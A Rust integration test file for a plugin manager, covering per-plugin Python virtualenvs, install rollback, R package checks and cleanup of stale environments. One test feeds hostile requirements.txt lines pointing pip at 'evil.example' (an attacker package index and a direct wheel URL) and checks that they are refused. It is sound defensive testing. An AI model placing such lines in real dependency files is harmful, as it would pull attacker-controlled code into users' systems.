//! Language environments built at install (issue 3, item 7): a Python plugin's
//! declared packages land in its own virtualenv (pip reaches the package index
//! here), the plugin imports them when run sandboxed, every failure rolls the
//! install back, and R packages are checked with `requireNamespace`.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

use crate::util::{Env, Fixture, example, python_fixture};

/// A fixture's directory with `extra` appended to its manifest.
fn plugin_with(env: &Env, fixture: &Fixture, extra: &str) -> PathBuf {
    let dir = env.plugin(fixture.id, fixture);
    let manifest = dir.join("manifest.yaml");
    let mut text = std::fs::read_to_string(&manifest).unwrap();
    text.push_str(extra);
    std::fs::write(&manifest, text).unwrap();
    dir
}

/// `$PLUGD_HOME/envs/<id>/<version>`.
fn env_dir(env: &Env, id: &str, version: &str) -> PathBuf {
    env.home.path().join("envs").join(id).join(version)
}

fn entries(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Asserts that nothing of plugin `id` is left: no row, no store dir, no env.
fn assert_nothing_installed(env: &Env, id: &str) {
    let list = env.json(&["list"]);
    assert_eq!(list["plugins"].as_array().map(Vec::len), Some(0), "{list}");
    assert!(!env.home.path().join("store").join(id).exists());
    assert!(
        entries(&env.home.path().join("envs")).is_empty(),
        "envs: {:?}",
        entries(&env.home.path().join("envs"))
    );
    assert!(
        entries(&env.home.path().join("staging")).is_empty(),
        "staging: {:?}",
        entries(&env.home.path().join("staging"))
    );
}

#[test]
fn declared_python_packages_are_installed_into_the_plugins_own_env() {
    let env = Env::new();
    let fixture = python_fixture(
        "with-six",
        "1.0.0",
        r#"import six, tomli
reply(req, body={"six": six.__version__, "tomli": hasattr(tomli, "loads"), "prefix": sys.prefix})"#,
    );
    let dir = plugin_with(&env, &fixture, "dependencies:\n  python:\n    - six\n");
    // A requirements.txt adds to the manifest's list.
    std::fs::write(dir.join("requirements.txt"), "# parser\ntomli>=1.0\n").unwrap();

    let started = Instant::now();
    let report = env.json(&["install", dir.to_str().unwrap(), "--enable"]);
    eprintln!("install with pip took {:?}", started.elapsed());
    assert_eq!(report["status"], "installed", "{report}");
    let venv = env_dir(&env, "with-six", "1.0.0");
    assert!(venv.join(".plugd-env.json").is_file(), "no complete env");
    assert!(venv.join("bin/python").exists());

    let doc = env.json(&["exec", "with-six", "run"]);
    let body = &doc["response"]["body"];
    assert!(body["six"].as_str().is_some_and(|v| !v.is_empty()), "{doc}");
    assert_eq!(body["tomli"], true, "{doc}");
    assert_eq!(
        Path::new(body["prefix"].as_str().unwrap()),
        venv.canonicalize().unwrap(),
        "{doc}"
    );

    // The same package again reuses the environment instead of rebuilding it.
    let inode = std::fs::metadata(venv.join(".plugd-env.json"))
        .unwrap()
        .ino();
    let report = env.json(&["install", dir.to_str().unwrap()]);
    assert_eq!(report["status"], "unchanged", "{report}");
    assert_eq!(
        std::fs::metadata(venv.join(".plugd-env.json"))
            .unwrap()
            .ino(),
        inode
    );

    // An update gets its own environment, beside the old version's.
    let manifest = dir.join("manifest.yaml");
    let text = std::fs::read_to_string(&manifest)
        .unwrap()
        .replace("version: 1.0.0", "version: 1.1.0");
    std::fs::write(&manifest, text).unwrap();
    let started = Instant::now();
    env.json(&["update", "with-six", dir.to_str().unwrap()]);
    eprintln!("update with a warm pip cache took {:?}", started.elapsed());
    assert!(
        env_dir(&env, "with-six", "1.1.0")
            .join(".plugd-env.json")
            .is_file()
    );
    let doc = env.json(&["exec", "with-six", "run"]);
    assert_eq!(
        Path::new(doc["response"]["body"]["prefix"].as_str().unwrap()),
        env_dir(&env, "with-six", "1.1.0").canonicalize().unwrap(),
        "{doc}"
    );

    env.ok(&["uninstall", "with-six"]);
    assert!(!env.home.path().join("envs/with-six").exists());
}

#[test]
fn a_package_pip_cannot_find_rolls_the_install_back() {
    let env = Env::new();
    env.ok(&["list"]);
    let before = env.home_tree();
    let fixture = python_fixture("no-such-dep", "1.0.0", "reply(req)");
    let dir = plugin_with(
        &env,
        &fixture,
        "dependencies:\n  python:\n    - plugd-no-such-package-xyz\n",
    );
    let run = env.fails(&["install", dir.to_str().unwrap()]);
    assert!(
        run.stderr.contains("pip install")
            && run.stderr.contains("plugd-no-such-package-xyz")
            && (run.stderr.contains("No matching distribution")
                || run.stderr.contains("Could not find a version")),
        "stderr should carry pip's message:\n{}",
        run.stderr
    );
    assert_nothing_installed(&env, "no-such-dep");
    assert_eq!(env.home_tree(), before);
}

#[test]
fn a_requirements_file_with_pip_options_is_refused_naming_the_line() {
    let env = Env::new();
    for (name, text, needle) in [
        (
            "index-url",
            "six\n--index-url https://evil.example/simple\n",
            "requirements.txt line 2",
        ),
        ("editable", "-e .\n", "requirements.txt line 1"),
        (
            "direct-url",
            "# x\n\nevil @ https://evil.example/evil.whl\n",
            "requirements.txt line 3",
        ),
    ] {
        let fixture = python_fixture("hostile-reqs", "1.0.0", "reply(req)");
        let dir = env.plugin(name, &fixture);
        std::fs::write(dir.join("requirements.txt"), text).unwrap();
        let run = env.fails(&["install", dir.to_str().unwrap()]);
        assert!(
            run.stderr.contains(needle) && run.stderr.contains("refused"),
            "{name}: {}",
            run.stderr
        );
        assert_nothing_installed(&env, "hostile-reqs");
    }
}

/// A one-file R plugin declaring `packages` (never run: the check is at install).
fn r_plugin(env: &Env, id: &'static str, packages: &[&str]) -> PathBuf {
    let fixture = Fixture {
        id,
        version: "1.0.0",
        language: "r",
        entry: "plugin.R",
        actions: &["run"],
        code: "library(jsonlite)\n",
    };
    let list: String = packages.iter().map(|p| format!("    - {p}\n")).collect();
    plugin_with(env, &fixture, &format!("dependencies:\n  r:\n{list}"))
}

fn rscript_with(package: &str) -> bool {
    Command::new("Rscript")
        .args([
            "-e",
            &format!("quit(status = !requireNamespace('{package}', quietly = TRUE))"),
        ])
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn r_packages_are_checked_at_install() {
    if !rscript_with("jsonlite") {
        // CI installs r-base-core and r-cran-jsonlite (issue 3, item 8); a
        // machine without them cannot run this test, and says so.
        eprintln!("skipping: Rscript with jsonlite is not installed here");
        return;
    }
    let env = Env::new();
    let ok = r_plugin(&env, "r-ok", &["jsonlite"]);
    env.ok(&["install", ok.to_str().unwrap()]);

    let bad = r_plugin(&env, "r-missing", &["jsonlite", "nosuchpkg"]);
    let run = env.fails(&["install", bad.to_str().unwrap()]);
    assert!(
        run.stderr.contains("not installed: nosuchpkg;")
            && run.stderr.contains("install.packages(c(\"nosuchpkg\"))")
            && run.stderr.contains("r-cran-nosuchpkg"),
        "{}",
        run.stderr
    );
    let list = env.json(&["list"]);
    assert_eq!(list["plugins"].as_array().map(Vec::len), Some(1), "{list}");
    assert!(!env.home.path().join("store/r-missing").exists());
}

#[test]
fn omniscope_numpy_plugin_gets_numpy_in_its_env() {
    let env = Env::new();
    let started = Instant::now();
    let report = env.json(&["install", example("omniscope-normalizer").to_str().unwrap()]);
    eprintln!("omniscope-normalizer install took {:?}", started.elapsed());
    let id = report["id"].as_str().unwrap();
    let version = report["version"].as_str().unwrap();
    let python = env_dir(&env, id, version).join("bin/python");
    let out = Command::new(&python)
        .args(["-c", "import numpy; print(numpy.__version__)"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}: {}",
        python.display(),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_stale_env_is_swept_on_the_next_open_and_never_used() {
    let env = Env::new();
    env.ok(&["list"]);
    // What an uninstall killed between its database write and its file removal leaves.
    let ghost = env_dir(&env, "ghost", "1.0.0");
    std::fs::create_dir_all(ghost.join("bin")).unwrap();
    std::fs::write(
        ghost.join(".plugd-env.json"),
        r#"{"id":"ghost","version":"1.0.0","digest":"x","requirements":[]}"#,
    )
    .unwrap();
    env.ok(&["list"]);
    assert!(!env.home.path().join("envs/ghost").exists());
}
